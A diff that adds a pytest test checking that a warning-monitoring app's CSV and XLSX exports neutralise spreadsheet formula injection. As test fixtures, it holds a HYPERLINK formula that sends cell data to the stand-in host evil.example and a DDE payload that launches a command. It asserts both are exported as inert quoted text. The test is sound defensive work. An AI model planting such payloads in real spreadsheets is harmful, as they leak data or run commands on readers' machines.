@@ -8,6 +8,7 @@ import csv
 import io
 import json
 import re
+import zipfile
 from datetime import UTC, date, datetime, timedelta
 from typing import Any
 from zoneinfo import ZoneInfo
@@ -195,6 +196,34 @@ def test_exports_are_files_and_are_audited(inspector, session, person):
     assert records[-1].after["rows"] == len(rows) - 1
     assert records[-1].actor == "jw.hexiaoping"
     assert inspector.get("/monitor/warnings/export.pdf").status_code == 422
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&D2&E2,"点击查看凭证")'
+
+
+def test_exports_cannot_attack_their_readers(inspector, session, person):
+    # What a staff member typed reaches the leader's spreadsheet: no cell may act, and a
+    # control character must not break the file.
+    event = warning(session, person, Level.RED, subject="@SUM(1+1)*cmd|' /C calc'!A0")
+    event.explanation = FORMULA
+    other = warning(session, person, Level.RED, subject="-2+3")
+    other.explanation = "a\u0001b"
+    session.commit()
+    csv_file = inspector.get("/monitor/warnings/export.csv?period=today&level=red")
+    assert csv_file.headers["Content-Type"] == "text/csv; charset=utf-8"
+    rows = list(csv.reader(io.StringIO(csv_file.data.decode("utf-8").lstrip("\ufeff"))))
+    mine = next(r for r in rows[1:] if r[0] == str(event.id))
+    assert "'" + FORMULA in mine and "'@SUM(1+1)*cmd|' /C calc'!A0" in mine
+    second = next(r for r in rows[1:] if r[0] == str(other.id))
+    assert "'-2+3" in second and "a\ufffdb" in second
+    xlsx = inspector.get("/monitor/warnings/export.xlsx?period=today&level=red")
+    assert xlsx.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(xlsx.data)) as book:
+        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # not one formula cell
+    assert "HYPERLINK(" in sheet_xml and "a\ufffdb" in sheet_xml  # the words, as text
+    cells = [c for row in load_workbook(io.BytesIO(xlsx.data)).active.iter_rows() for c in row]
+    assert any(c.quotePrefix and c.value == FORMULA for c in cells)
 
 
 def test_the_notification_log_shows_sms_status(inspector, session, person):
